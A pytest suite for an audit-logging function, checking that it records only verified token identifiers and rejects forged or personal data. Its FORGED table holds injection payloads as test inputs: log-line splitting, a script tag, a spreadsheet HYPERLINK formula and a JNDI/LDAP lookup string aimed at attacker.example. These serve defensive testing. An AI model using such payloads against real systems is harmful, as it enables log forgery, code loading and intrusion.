"""An audit record says who did what by verified claims alone; nobody can forge a line or find a person's data in it."""

import json
import logging
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from audit_record import audit_record, write_audit_record
from tests.snippets.issuer import APP_ONLY, DAEMON, DELEGATED, TENANT, USER, WEB_APP, b64, changed

GUID = "3d3f0b6a-1111-4222-8333-9a576f2f4d7b"


def denied(claims: Any = None, **more: Any) -> dict[str, str]:
    given = {"rule": "require_app_role", "operation": "order.approve", **more}
    return audit_record(changed(DELEGATED, {}) if claims is None else claims, "denied", **given)


FORGED = {
    "line-break": "17\n2026-01-01 allowed",
    "carriage-return": "17\rallowed",
    "end-of-line": "17\n",
    "unicode-line-break": "17\u2028allowed",
    "escape-sequence": "\x1b[2Jallowed",
    "nul": "17\0",
    "quote": '17", "decision": "allowed',
    "markup": "<script>alert(1)</script>",
    "formula": "=HYPERLINK('https://attacker.example')",
    "blank": "17 allowed",
    "digits-of-another-script": "\u0967\u096d",
    "long": "7" * 101,
    "lookup": "${jndi:ldap://attacker.example/x}",
}


@pytest.mark.parametrize("field", ["object_id", "correlation_id", "address"])
@pytest.mark.parametrize("name", FORGED)
def test_refuses_to_record_what_a_caller_made_up(field, name):
    assert denied(**{field: FORGED[name]})[field] == "invalid"


@pytest.mark.parametrize("value", [FORGED["line-break"], 5, None, [USER], {"a": 1}, True], ids=repr)
@pytest.mark.parametrize("claim", ["tid", "oid", "sub", "azp", "uti"])
def test_refuses_a_claim_that_is_no_identifier(claim, value):
    assert denied(changed(DELEGATED, {claim: value}))[claim] == "invalid"


@pytest.mark.parametrize("text", ["17", GUID + GUID, "{" + GUID + "}", "00000000-0000", "localhost"])
def test_refuses_a_correlation_id_that_is_no_guid(text):
    assert denied(correlation_id=text)["correlation_id"] == "invalid"


@pytest.mark.parametrize("text", ["localhost", "10.0.0.1, 10.0.0.2", "10.0.0.256", "10.0.0.1:443", "unknown"])
def test_refuses_an_address_that_is_none(text):
    assert denied(address=text)["address"] == "invalid"


@pytest.mark.parametrize("zone", ["eth0", "eth0\nroot signed in", "x" * 9000, "\u202e"], ids=ascii)
def test_refuses_to_write_what_stands_behind_an_address(zone):
    assert denied(address=f"FE80::1%{zone}")["address"] == "fe80::1"


@pytest.mark.parametrize(
    "claim", ["name", "preferred_username", "email", "upn", "ipaddr", "roles", "scp", "groups", "aio", "rh", "nonce"]
)
def test_refuses_to_record_more_than_identifiers(claim):
    record = denied(changed(DELEGATED, {claim: "Adele Vance"}))
    assert "Adele Vance" not in json.dumps(record)
    assert claim not in record


def test_refuses_to_record_the_claims_of_a_caller_without_a_verified_token():
    record = audit_record(None, "denied", rule="require_token", operation="order.read")
    assert not {"tid", "oid", "sub", "azp", "uti"} & set(record)


def test_refuses_a_decision_of_another_name():
    with pytest.raises(ValueError, match="allowed or denied"):
        audit_record(None, "maybe", rule="x", operation="y")  # type: ignore[arg-type]


def test_refuses_a_token_as_object_id(signing_key, caplog):
    token = signing_key.token()
    write_audit_record(denied(object_id=token, correlation_id=token))
    assert b64(b'{"typ"')[:6] not in caplog.text


def test_says_who_asked_for_what_and_when(caplog):
    before = datetime.now(UTC) - timedelta(seconds=1)
    with caplog.at_level(logging.INFO, "audit"):
        write_audit_record(denied(object_id="17", correlation_id=GUID, address="2001:DB8::1"))
    record = json.loads(caplog.messages[0])
    assert before < datetime.fromisoformat(record.pop("time")) <= datetime.now(UTC)
    assert record == {
        "decision": "denied",
        "rule": "require_app_role",
        "operation": "order.approve",
        "object_id": "17",
        "correlation_id": GUID,
        "address": "2001:db8::1",
        "tid": TENANT,
        "oid": USER,
        "sub": DELEGATED["sub"],
        "azp": WEB_APP,
        "uti": DELEGATED["uti"],
    }
    assert caplog.records[0].levelno == logging.WARNING


def test_tells_an_app_from_a_user(caplog):
    record = audit_record(changed(APP_ONLY, {}), "allowed", rule="permits", operation="orders.process")
    with caplog.at_level(logging.INFO, "audit"):
        write_audit_record(record)
    assert record["azp"] == DAEMON
    assert record["oid"] == record["sub"]
    assert caplog.records[0].levelno == logging.INFO
